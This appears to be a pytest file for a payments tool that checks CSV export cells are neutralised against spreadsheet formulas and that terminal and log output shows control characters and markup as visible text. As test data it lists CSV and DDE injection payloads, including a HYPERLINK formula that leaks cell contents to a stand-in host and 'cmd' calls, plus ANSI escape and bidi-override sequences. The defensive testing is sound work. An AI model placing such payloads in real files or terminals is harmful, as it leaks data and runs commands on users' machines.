"""What payhub writes for people: CSV cells neutralised against spreadsheet formulas, terminal text made visible.

The rule under test (``payhub.csvsafe``): a cell starting with ``=``, ``+``, ``-``, ``@``, TAB or CR, or with
whitespace and then ``=``, ``+``, ``-``, ``@``, gets a leading ``'``; a plain negative decimal number stays as it
is; the rule is undone exactly by ``restore_cell``. Tests through the CLI and the pipeline are in
test_output_cli.py.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from payhub import csvsafe
from payhub.api import Payee, PayoutInstruction
from payhub.builtin.csv_export import CsvExportRail, CsvExportSettings
from payhub.cli import output
from payhub.logs import setup_logging
from payhub.settings import LogSettings
from payhub.termsafe import VisibleFormatter, visible

# Each starts a cell that a spreadsheet would run (or that hides what follows): all get a leading "'".
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+41 44 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "-",
    "-12.50 EUR",
    "-1e5",
    "--5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    " =1+1",
    "   +1",
    "\n=1+1",
    "\u00a0=1+1",  # a no-break space is white space too
    "'=1+1",  # already quoted: one more quote, so restore_cell gives back exactly this text
    "''@x",
    "' =1",
]
# Written as they are: text that starts harmlessly, and plain decimal numbers (negative ones included).
HARMLESS = ["", "p1", "Partner One", "12.50", "0", "-12.50", "-0", "-1000", "-0.001", "a=b", "x+1", "mail@example.com",
            "'quoted", "'-12.50", " leading space", "{\"reason\":\"=1+1\"}", "[/x]", "100%", "Zoë 北京"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert csvsafe.neutralise_cell(text) == "'" + text
    assert csvsafe.restore_cell(csvsafe.neutralise_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_and_plain_negative_numbers_are_written_as_they_are(text: str) -> None:
    assert csvsafe.neutralise_cell(text) == text
    assert csvsafe.restore_cell(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r \n0123456789.ab"), max_size=8) | st.text(max_size=20))
def test_the_rule_is_undone_exactly_and_never_leaves_a_runnable_cell(text: str) -> None:
    cell = csvsafe.neutralise_cell(text)
    assert csvsafe.restore_cell(cell) == text
    # What a spreadsheet sees: a cell that starts with a trigger is a plain negative number or starts with "'".
    starts = cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")
    assert not starts or csvsafe._PLAIN_NEGATIVE.fullmatch(cell)


def test_a_long_run_of_quotes_is_handled_without_recursion() -> None:
    text = "'" * 100_000 + "=1"
    assert csvsafe.restore_cell(csvsafe.neutralise_cell(text)) == text


def test_the_writer_neutralises_every_cell_and_quotes_separators_quotes_and_newlines() -> None:
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer)
    writer.writerow(["id", "note", "amount", "empty"])
    writer.writerow(["=1+1", 'line one\n=line "two", three', "-12.50", None])
    writer.writerow([7, "\r\n@x", Decimal("-3.5"), ""])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["id", "note", "amount", "empty"],
                    ["'=1+1", 'line one\n=line "two", three', "-12.50", ""],
                    ["7", "'\r\n@x", "-3.5", ""]]


# ------------------------------------------------------------------------------------------------ render (CLI)


@pytest.fixture
def wide(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(output.console, "width", 400)
    yield


def test_render_csv_neutralises_every_dangerous_prefix(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"id": i, "payee": text, "amount": "-12.50"} for i, text in enumerate(DANGEROUS)]
    output.render(rows, "csv")
    parsed = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["payee"] for r in parsed] == ["'" + text for text in DANGEROUS]
    assert {r["amount"] for r in parsed} == {"-12.50"}


def test_render_json_keeps_the_exact_text(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"payee": text} for text in [*DANGEROUS, "esc\x1b[2J", "[/x]"]]
    output.render(rows, "json")
    assert json.loads(capsys.readouterr().out) == rows


HOSTILE_TABLE = {
    "[/x]": "[/x]",
    "[bold]x": "[bold]x",
    "[link=http://evil.example]click[/link]": "[link=http://evil.example]click[/link]",
    ":smile:": ":smile:",
    "clear\x1b[2Jscreen": "clear\\x1b[2Jscreen",
    "title\x1b]0;pwned\x07": "title\\x1b]0;pwned\\x07",
    "bell\x07back\bcr\rlf\ntab\t": "bell\\x07back\\x08cr\\x0dlf\\x0atab\\x09",
    "c1\x9b2J del\x7f": "c1\\x9b2J del\\x7f",
    "rlo\u202eevil\u202c lri\u2066x\u2069": "rlo\\u202eevil\\u202c lri\\u2066x\\u2069",
    "zw\u200bj\ufeff ls\u2028": "zw\\u200bj\\ufeff ls\\u2028",
}


def test_render_table_shows_markup_and_control_characters_as_text(
        wide: None, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"payee": hostile, "reason": f"why: {hostile}"} for hostile in HOSTILE_TABLE]
    output.render(rows, "table", title="payouts [/x] \x1b[2J")
    out = capsys.readouterr().out
    for shown in HOSTILE_TABLE.values():
        assert shown in out and f"why: {shown}" in out
    assert "payouts [/x] \\x1b[2J" in out
    for raw in ("\x1b", "\x07", "\x08", "\x9b", "\x7f", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "😄"):
        assert raw not in out


def test_shown_escapes_markup_for_messages_that_use_it() -> None:
    console = Console(file=io.StringIO(), width=200, emoji=False)
    console.print(f"[bold]payee[/bold] {output.shown('[/x] [bold]y :smile: a' + chr(27) + '[2J')}")
    assert console.file.getvalue().rstrip("\n") == "payee [/x] [bold]y :smile: a\\x1b[2J"  # type: ignore[attr-defined]


def test_visible_keeps_printable_text_of_any_script() -> None:
    text = "Zoë Ørsted 北京 مرحبا 😀 naïve — 12,50 €"
    assert visible(text) == text
    assert visible("\ud800") == "\\ud800"  # a lone surrogate cannot even be encoded for the terminal
    assert visible("tag\U000e0041") == "tag\\U000e0041"


# ---------------------------------------------------------------------------------------------------- logging


def test_text_logs_show_crm_text_escaped_on_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        setup_logging(LogSettings(format="text", level="INFO"))
        log = logging.getLogger("payhub.test")
        log.warning("payee %s is not in the registry", "p1\x1b[2J\u202e\nFAKE 00:00 INFO forged line")
        try:
            raise ValueError("rail said \x1b[31mno\x1b[0m")
        except ValueError:
            log.exception("rail raised")
    finally:
        root.handlers[:], root.level = handlers, level
    err = capsys.readouterr().err
    assert "payee p1\\x1b[2J\\u202e\\x0aFAKE 00:00 INFO forged line is not in the registry" in err
    assert "ValueError: rail said \\x1b[31mno\\x1b[0m" in err
    assert "Traceback (most recent call last):\n" in err  # the traceback keeps its lines
    assert "\x1b" not in err and "\u202e" not in err


def test_warnings_printed_before_logging_is_set_up_are_escaped(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from cli_helpers import invoke

    invoke("-c", str(tmp_path / "missing.toml"), "config", "check")  # any command sets the last-resort format
    assert isinstance(logging.lastResort, logging.Handler)
    assert isinstance(logging.lastResort.formatter, VisibleFormatter)
    record = logging.LogRecord("payhub.payees", logging.WARNING, __file__, 1, "payees: %s", ("id \x1b[2J",), None)
    logging.lastResort.handle(record)
    assert capsys.readouterr().err == "payees: id \\x1b[2J\n"


# ------------------------------------------------------------------------------------------- csv_export rail


def instruction(payout_id: int, key: str, payee: Payee, amount: str) -> PayoutInstruction:
    return PayoutInstruction(payout_id, key, payee, Decimal(amount), "EUR", f"payhub payout {payout_id}",
                             datetime(2026, 11, 1, tzinfo=UTC))


def test_csv_export_file_is_neutralised_and_its_keys_are_still_found(tmp_path: Path) -> None:
    settings = CsvExportSettings(directory=tmp_path / "out")
    payee = Payee("=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "DE", email="@evil",
                  details={"iban": "DE89370400440532013000", "note": "=1+1"})
    keys = ["ph-plain", "=key", "'=key", "\tkey"]
    CsvExportRail("export", settings).send([instruction(n, key, payee, "12.50") for n, key in enumerate(keys, 1)])
    [written] = (tmp_path / "out").glob("payouts-*.csv")
    with written.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["idempotency_key"] for r in rows] == ["ph-plain", "'=key", "''=key", "'\tkey"]
    assert {(r["payee_id"], r["payee_name"], r["email"], r["amount"]) for r in rows} == {
        ("'=HYPERLINK(\"http://evil.example\",\"x\")", "'=cmd|' /C calc'!A0", "'@evil", "12.50")}
    assert rows[0]["payout_details"].startswith("{")  # JSON text: cannot start a formula
    # A fresh rail (after a restart) reads the file back and finds every key exactly: nothing is written twice.
    fresh = CsvExportRail("export", settings)
    found = fresh.lookup([*keys, "key"])
    assert {k: (r.provider_ref if r else None) for k, r in found.items()} == {
        **{k: written.name for k in keys}, "key": None}
    assert [r.provider_ref for r in fresh.send([instruction(9, "=key", payee, "12.50")])] == [written.name]
    assert len(list((tmp_path / "out").glob("payouts-*.csv"))) == 1


def test_output_module_writes_to_the_current_stdout() -> None:
    # render() looks sys.stdout up when it writes (CliRunner and pipes swap it).
    saved, sys.stdout = sys.stdout, io.StringIO()
    try:
        output.render([{"a": "=1"}], "csv")
        text = sys.stdout.getvalue()
    finally:
        sys.stdout = saved
    assert text == "a\r\n'=1\r\n"
